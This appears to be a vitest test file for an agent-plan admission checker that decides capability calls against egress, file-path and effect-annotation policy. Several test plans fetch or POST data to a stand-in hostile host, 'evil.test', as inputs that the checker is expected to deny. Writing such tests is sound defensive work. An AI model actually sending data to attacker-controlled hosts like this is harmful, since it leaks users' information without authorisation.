import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { builtinProviders, createRegistry } from "../capability/index.ts";
import { compilePolicy, loadConfig } from "../config/index.ts";
import {
  containsRow,
  keyword,
  MapValue,
  outlinePlan,
  printRow,
  readForms,
  type Value,
} from "../rtfs/index.ts";
import { admitPlan } from "./admission.ts";
import { contractsOf, POLICY_MATCHERS, rowOfResource } from "./effect-contracts.ts";
import { effectsJson, effectsOfSource } from "./effects-report.ts";

const registry = createRegistry(builtinProviders());
const CONFIG = `(agent.config :agent-id "a" :features [:network :fs]
  :network {:enabled true :egress {:via :proxy :rules [{:host "api.example.com" :methods [:GET]}]}}
  :capabilities {:http {:enabled true} :fs {:enabled true :paths [{:path "/workspace" :mode :ro}]}})`;

function admit(source: string) {
  const loaded = loadConfig(CONFIG, { file: "a.rtfs" });
  if (loaded.config === null || !loaded.valid) throw new Error(JSON.stringify(loaded.findings));
  const forms = readForms(source, { file: "plan.rtfs" });
  const outline = forms.ok ? outlinePlan(forms.value) : forms;
  if (!outline.ok) throw new Error(outline.error[0]!.message);
  return admitPlan(outline.value, compilePolicy(loaded.config), registry);
}

/** `step capability verdict`, one line a site. */
function verdicts(source: string): string[] {
  return admit(source).sites.map(({ step, capability, verdict }) => {
    const decided = verdict.kind === "deny" ? verdict.code : verdict.kind;
    return `${step ?? "-"} ${capability ?? "?"} ${decided}`;
  });
}

describe("admitPlan", () => {
  test.each([
    [
      "each call of each step is decided",
      '(step "a" (call :ccos.network.http-fetch "https://api.example.com/x")) (step "b" (call :ccos.network.http-fetch "https://evil.test/"))',
      ["a ccos.network.http-fetch allow", "b ccos.network.http-fetch EGRESS_DENIED"],
    ],
    [
      "a call in a function is decided for every step that reaches it",
      '(defn put [t] (call :ccos.io.write-file "/workspace/x" "t")) (step "a" (put 1)) (step "b" 1) (step "c" (map put [1]))',
      ["a ccos.io.write-file FILE_DENIED", "c ccos.io.write-file FILE_DENIED"],
    ],
    [
      "what decides is known although the rest is not",
      `(defn put [t] (call :ccos.io.write-file "/workspace/x" t))
       (step "a" (put (call :ccos.echo "t")))
       (step "b" (call :ccos.network.http-fetch {:url "https://evil.test/" :method "POST" :body (put "x")}))
       (step "c" (call :ccos.network.http-fetch "https://api.example.com/" "POST" {} (str (count []))))
       (step "d" (call :ccos.network.http-fetch {:url "https://evil.test/" :method (str (count []))}))
       (step "e" (call :ccos.network.http-fetch (first ["https://evil.test/"])))
       (step "f" (call :ccos.network.http-fetch {:url "https://evil.test/" "url" (str (count []))}))
       (step "g" (call :ccos.io.write-file {:path (str "/" (count [])) :text "x"}))`,
      [
        "a ccos.io.write-file FILE_DENIED",
        "a ccos.echo allow",
        "b ccos.io.write-file FILE_DENIED",
        "b ccos.network.http-fetch EGRESS_DENIED",
        "c ccos.network.http-fetch EGRESS_DENIED",
        "d ccos.network.http-fetch allow",
        "e ccos.network.http-fetch allow",
        "f ccos.network.http-fetch allow",
        "g ccos.io.write-file allow",
      ],
    ],
    [
      "a computed id and an unknown one are refused in their step",
      '(step "a" (call (str "ccos" (count [1])))) (step "b" (call :x.y)) (step "c" (call "Not/An Id"))',
      ["a ? CAPABILITY_ID_COMPUTED", "b x.y UNKNOWN_CAPABILITY", "c Not/An Id UNKNOWN_CAPABILITY"],
    ],
  ])("%s", (_law, source, expected) => {
    expect(verdicts(source)).toEqual(expected);
  });

  test.each([
    [
      "a computed id that an annotation bounds is each of its ids",
      `(def which (call :ccos.echo "log"))
       ^{:capabilities [:ccos.io.log :ccos.system.current-time] :effects [:clock]}
       (step "a" (call (str "ccos.io." which) 1))`,
      ["- ccos.echo allow", "a ccos.io.log allow", "a ccos.system.current-time allow"],
    ],
    [
      "an annotation that says too little is refused, also on a function",
      `^{:effects []} (defn now [] (call :ccos.system.current-time))
       (step "a" (now))
       ^{:effects [[:fs {:paths ["/workspace"] :modes [read]}]]}
       (step "b" (call :ccos.io.read-file "/workspace/x") (call :ccos.io.write-file "/workspace/x" ""))`,
      [
        "a ccos.system.current-time allow",
        "a ccos.system.current-time EFFECT_UNDERDECLARED",
        "b ccos.io.read-file allow",
        "b ccos.io.write-file FILE_DENIED",
        "b ccos.io.write-file EFFECT_UNDERDECLARED",
      ],
    ],
    [
      "branches at once, loops and macros are followed",
      `(defmacro twice [form] \`(do ~form ~form))
       (step "a" (step-parallel (call :ccos.io.log 1) (loop [n 2] (if (= n 0) (call :ccos.echo n) (recur (dec n))))))
       (step "b" (twice (call :ccos.echo @name)))`,
      ["a ccos.io.log allow", "a ccos.echo allow", "b ccos.echo allow", "b ccos.echo allow"],
    ],
  ])("%s", (_law, source, expected) => {
    expect(verdicts(source)).toEqual(expected);
  });

  test("a step may call what it was admitted with, and no more", () => {
    const { callable, admitted } = admit('(step "a" (call :ccos.echo 1)) (step "b" 1)');
    expect(admitted).toBe(true);
    expect([...callable].map(([step, rows]) => [step, [...rows.keys()]])).toEqual([
      [null, []],
      ["a", ["ccos.echo"]],
      ["b", []],
    ]);
  });

  test("rows of steps and of the plan are part of it", () => {
    const { effects, planEffects } = admit(
      '(step "a" (call :ccos.io.read-file "/workspace/x")) (step "b" (call :ccos.system.current-time))',
    );
    expect(effects.map(({ step, row }) => `${step}: ${printRow(row)}`)).toEqual([
      "null: []",
      'a: [[:fs {:paths ["/workspace/x"] :modes ["read"]}]]',
      "b: [[:clock]]",
    ]);
    expect(printRow(planEffects)).toBe(
      '[[:fs {:paths ["/workspace/x"] :modes ["read"]}] [:clock]]',
    );
  });
});

const NONE = { args: [], named: null };

describe("contractsOf", () => {
  const contracts = contractsOf(registry);
  test.each([
    [
      "ccos.network.http-fetch",
      ["https://a.example.com:8443/x?y=1", "post"],
      '[[:network {:domains ["a.example.com"] :methods ["POST"] :ports ["8443"] :protocols ["https"] :ip_ranges [] :mTLS false}]]',
    ],
    [
      "ccos.network.http-fetch",
      ["http://127.0.0.1/"],
      '[[:network {:domains ["127.0.0.1"] :methods ["GET"] :ports ["80"] :protocols ["http"] :ip_ranges ["127.0.0.1"] :mTLS false}]]',
    ],
    [
      "ccos.network.http-fetch",
      [undefined],
      "[[:network {:domains :any :methods :any :ports :any :protocols :any :ip_ranges :any :mTLS false}]]",
    ],
    ["ccos.io.delete-file", ["/a"], '[[:fs {:paths ["/a"] :modes ["write"]}]]'],
    ["ccos.io.read-file", ["../a"], "[[:fs {:paths :any :modes :any}]]"],
    ["ccos.echo", [1], "[]"],
  ])("%s %j", (id, args, expected) => {
    expect(printRow(contracts(id, { args, named: null })!.effects)).toBe(expected);
  });
  test("every built-in has a contract in the vocabulary, and nothing else has one", () => {
    const all = registry
      .list()
      .map(({ manifest }) => contracts(manifest.id, { args: [undefined], named: null }));
    expect(all.length).toBeGreaterThan(15);
    expect(all).not.toContain(null);
    expect(contracts("x.y", NONE)).toBeNull();
    expect(contracts("__proto__", NONE)).toBeNull();
  });
  test("a wildcard covers what policy says it covers", () => {
    const target = (host: string) => rowOfResource({ kind: "connect", host, port: 443 });
    expect(
      containsRow(target("*.example.com"), target("a.example.com"), POLICY_MATCHERS),
    ).toBeNull();
    expect(
      containsRow(target("*.example.com"), target("*.a.example.com"), POLICY_MATCHERS),
    ).toBeNull();
    expect(
      containsRow(target("*.example.com"), target("example.com"), POLICY_MATCHERS),
    ).not.toBeNull();
    expect(
      containsRow(target("a.example.com"), target("*.example.com"), POLICY_MATCHERS),
    ).not.toBeNull();
  });
});

test("what is settled before the run is what the gate is asked at run time", () => {
  const values: fc.Arbitrary<Value> = fc.constantFrom<Value>(
    "/a",
    "/a/b",
    "file:1:w:/a",
    "https://a.test/x",
    "POST",
    "GET",
    "w",
    "text",
    null,
    1,
    MapValue.EMPTY,
  );
  const partial = registry.list().filter((each) => each.settle !== undefined);
  const names = ["path", "text", "url", "method", "headers", "body", "handle", "mode"];
  const fields = fc.subarray(names).chain((keys) =>
    fc.record({
      keys: fc.constant(keys),
      items: fc.array(values, { minLength: keys.length, maxLength: keys.length }),
    }),
  );
  let settled = 0;
  fc.assert(
    fc.property(
      fc.constantFrom(...partial),
      fc.oneof(fc.array(values, { maxLength: 4 }), fields),
      fc.array(fc.boolean(), { minLength: 8, maxLength: 8 }),
      (capability, input, isKnown) => {
        const isNamed = !Array.isArray(input);
        const items = isNamed ? input.items : input;
        const masked = items.map((item, index) => (isKnown[index] ? item : undefined));
        const pairs = isNamed ? input.keys.map((key, index) => [key, masked[index]] as const) : [];
        const known = isNamed
          ? { args: [undefined], named: new Map(pairs) }
          : { args: masked, named: null };
        const full = isNamed
          ? [MapValue.of(input.keys.map((key, index) => [keyword(key), items[index]!] as const))]
          : items;
        const before = capability.settle!(known);
        const asked = capability.access(full);
        if (before === null || !asked.ok) return;
        settled++;
        expect(before).toEqual(asked.value);
      },
    ),
    { numRuns: 20_000 },
  );
  expect(partial.length).toBeGreaterThan(5);
  expect(settled).toBeGreaterThan(50);
});

test("effectsOfSource needs no config, and answers diagnostics", () => {
  const inferred = effectsOfSource('(step "a" (call :ccos.system.current-time))', "f.rtfs");
  expect(inferred.ok && effectsJson(inferred.value)).toEqual({
    effects: [{ kind: "clock" }],
    steps: [
      { step: null, parent: null, effects: [], calls: [] },
      {
        step: "a",
        parent: null,
        effects: [{ kind: "clock" }],
        calls: [
          {
            capability: "ccos.system.current-time",
            computed: false,
            effects: [{ kind: "clock" }],
            line: 1,
            column: 11,
          },
        ],
      },
    ],
    refusals: [],
  });
  expect(effectsOfSource("(step", "f.rtfs").ok).toBe(false);
});
